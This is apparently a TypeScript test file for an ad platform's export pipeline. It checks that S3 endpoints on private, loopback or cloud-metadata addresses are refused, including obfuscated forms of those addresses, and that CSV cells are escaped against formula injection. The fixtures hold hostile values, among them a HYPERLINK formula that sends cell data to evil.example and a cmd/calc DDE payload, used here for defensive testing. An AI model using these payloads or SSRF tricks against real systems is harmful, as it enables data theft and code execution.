import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { LOCAL_S3_CREDENTIALS } from "@/cli/local/local-s3";
import { OPERATOR } from "@/server/accounts/actor";
import { db } from "@/server/db/client";
import { createDestination, destinationWithSecret, getDestination, updateDestination } from "@/server/pipeline/export/destinations/destinations";
import { testConnection } from "@/server/pipeline/export/destinations/s3";
import { duckdb, exportTestBed } from "@/testing/export-bucket";
import { publisherWithEvents } from "@/testing/export-traffic";
import { makeAdvertiser, makeCampaignWithAd, makePublisher } from "@/testing/fixtures";
import { runDueExports } from "./run-exports";

const DAY_MS = 86_400_000;
const HOUR_MS = 3_600_000;
const { bucket, BUCKET, T0, YESTERDAY, later: LATER, destinationFor, eventIdsIn } = exportTestBed();

describe("a destination's endpoint", () => {
  it("may not point at a loopback, private or link-local address when saved, in words on the endpoint field", async () => {
    const publisher = await makePublisher();
    const input = (endpoint: string) => ({
      accountId: publisher.id,
      name: "Inside",
      bucket: BUCKET,
      region: "us-east-1",
      endpoint,
      forcePathStyle: true,
      credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS },
    });
    const refuse = { actor: OPERATOR, allowPrivateEndpoints: false };
    await expect(createDestination(input(bucket.s3.endpoint), refuse)).rejects.toThrow("endpoint must be a public address: 127.0.0.1 is a loopback address");
    await expect(createDestination(input("http://169.254.169.254/latest/meta-data"), refuse)).rejects.toThrow(
      "endpoint must be a public address: 169.254.169.254 is a link-local address (where cloud metadata services answer)",
    );
    await expect(createDestination(input("http://2852039166"), refuse)).rejects.toThrow("169.254.169.254 is a link-local address");
    await expect(createDestination(input("http://[::ffff:10.0.0.7]:9000"), refuse)).rejects.toThrow(
      "endpoint must be a public address: ::ffff:a00:7 is a private network address (RFC 1918)",
    );
    await expect(createDestination(input(`http://localhost:${bucket.s3.port}`), refuse)).rejects.toThrow(
      /^endpoint must be a public address: localhost resolves to (127\.0\.0\.1|::1), a loopback address$/,
    );
    expect(await db.exportDestination.count({ where: { accountId: publisher.id } })).toBe(0);

    // An update is checked the same way; the operator's allowance lets the local S3 through.
    const allowed = await createDestination(input(bucket.s3.endpoint), { actor: OPERATOR, allowPrivateEndpoints: true });
    await expect(updateDestination(allowed.id, { ...input("http://192.168.0.10:9000"), name: "Moved" }, refuse)).rejects.toThrow(
      "endpoint must be a public address: 192.168.0.10 is a private network address (RFC 1918)",
    );
    expect((await getDestination(allowed.id, { actor: OPERATOR }))!.endpoint).toBe(bucket.s3.endpoint);
  });

  it("is checked again on every connection, on the address dialled (a name that resolves to a private address now is refused)", async () => {
    const shop = await publisherWithEvents([YESTERDAY + 10 * HOUR_MS]);
    // Saved while allowed (as a name that resolved to a public address then would be); connecting later is refused.
    const byName = await destinationFor(shop.publisher.id, ["ad_events"], `http://localhost:${bucket.s3.port}`);
    const refused = await testConnection((await destinationWithSecret(byName.id))!, { allowPrivateEndpoints: false });
    expect(refused).toEqual({
      ok: false,
      error: expect.stringMatching(
        /^the endpoint is not on the public internet: localhost resolves to (127\.0\.0\.1|::1), a loopback address; Tally connects only to public addresses$/,
      ),
    });
    expect(await testConnection((await destinationWithSecret(byName.id))!, { allowPrivateEndpoints: true })).toMatchObject({ ok: true });

    // A literal address, which Node dials without a lookup: the export's run fails in words, the
    // destination waits for a person, and nothing reached the bucket.
    const literal = await destinationFor(shop.publisher.id, ["ad_events"]);
    const { runs } = await runDueExports({ now: LATER, destinationId: literal.id, allowPrivateEndpoints: false });
    const failed = runs.filter((r) => r.status === "failed");
    expect(failed).toHaveLength(1);
    expect(failed[0]!.error).toBe("the endpoint is not on the public internet: 127.0.0.1 is a loopback address; Tally connects only to public addresses");
    expect(await getDestination(literal.id, { actor: OPERATOR })).toMatchObject({ status: "needs_attention", statusReason: failed[0]!.error });
    expect(await bucket.listKeys(BUCKET, literal.prefix)).toEqual([]);
    // Allowed, the same destination delivers: the refusal was the guard's, not the bucket's.
    await updateDestination(
      literal.id,
      {
        accountId: shop.publisher.id,
        name: "Lake",
        bucket: BUCKET,
        region: "us-east-1",
        endpoint: bucket.s3.endpoint,
        forcePathStyle: true,
        prefix: literal.prefix,
        credentials: { kind: "access_key", ...LOCAL_S3_CREDENTIALS },
        types: ["ad_events"],
      },
      { actor: OPERATOR },
    );
    const delivered = await runDueExports({ now: () => new Date(T0 + 3 * DAY_MS), destinationId: literal.id, allowPrivateEndpoints: true });
    expect(delivered.runs.every((r) => r.status === "succeeded")).toBe(true);
    expect(await eventIdsIn(await bucket.listKeys(BUCKET, literal.prefix))).toEqual(shop.ids);
  });
});

describe("CSV cells a spreadsheet would run", () => {
  it("are prefixed with a quote and quoted; numbers stay numbers, negative ones included; the prefix comes off again", async () => {
    const publisher = await makePublisher();
    const advertiser = await makeAdvertiser();
    const evilName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    await db.account.update({ where: { id: advertiser.id }, data: { name: evilName, sellerId: "@SUM(1+1)", walletBalanceMicros: -12_500_000n } });
    const names = ["-2+3", "+cmd|' /C calc'!A0", "\tTabbed", "\rReturn", "'=already quoted", "Plain, with a comma", "a=b-c"];
    for (const name of names) {
      const { campaign } = await makeCampaignWithAd({ advertiserId: advertiser.id, publisherIds: [publisher.id] });
      await db.campaign.update({ where: { id: campaign.id }, data: { name } });
    }
    const destination = await destinationFor(publisher.id, ["advertisers", "campaigns"]);
    const { runs } = await runDueExports({ now: LATER, destinationId: destination.id });
    expect(runs.length).toBeGreaterThan(0);
    expect(runs.every((r) => r.status === "succeeded")).toBe(true);
    const lastOf = async (type: string) => (await db.exportRun.findUniqueOrThrow({ where: { id: runs.filter((r) => r.type === type).at(-1)!.runId } })).keys;
    const [advertisersFile] = await bucket.download(BUCKET, await lastOf("advertisers"));
    const [campaignsFile] = await bucket.download(BUCKET, await lastOf("campaigns"));
    // The bytes: the quote inside the cell, the cell quoted (RFC 4180 doubling the quotes within).
    expect(readFileSync(advertisersFile!, "utf8")).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",${advertiser.id},"'@SUM(1+1)",-12.5,`);

    const sql = await duckdb();
    const advertisers = await sql(
      `SELECT advertiser, seller_id, wallet_balance FROM read_csv('${advertisersFile}', header = true) WHERE advertiser_id = '${advertiser.id}'`,
    );
    expect(advertisers).toEqual([{ advertiser: `'${evilName}`, seller_id: "'@SUM(1+1)", wallet_balance: -12.5 }]);
    const types = await sql(
      `SELECT column_name, column_type FROM (DESCRIBE SELECT wallet_balance, advertiser FROM read_csv('${advertisersFile}', header = true))`,
    );
    expect(types).toEqual([
      { column_name: "wallet_balance", column_type: "DOUBLE" },
      { column_name: "advertiser", column_type: "VARCHAR" },
    ]);

    const campaigns = await sql(
      `SELECT name, impressions_total FROM read_csv('${campaignsFile}', header = true) WHERE advertiser_id = '${advertiser.id}' ORDER BY name`,
    );
    expect(campaigns.map((c) => c.name).sort()).toEqual(
      ["'-2+3", "'+cmd|' /C calc'!A0", "'\tTabbed", "'\rReturn", "''=already quoted", "Plain, with a comma", "a=b-c"].sort(),
    );
    expect(campaigns.every((c) => typeof c.impressions_total === "number" || typeof c.impressions_total === "bigint")).toBe(true);
    // How a data team takes the prefix off (docs/export.md): the original text, every time.
    const undone = await sql(
      `SELECT regexp_replace(name, '^''(''*[=+\\-@\\t\\r])', '\\1') AS name FROM read_csv('${campaignsFile}', header = true) WHERE advertiser_id = '${advertiser.id}'`,
    );
    expect(undone.map((c) => c.name).sort()).toEqual([...names].sort());
  });
});
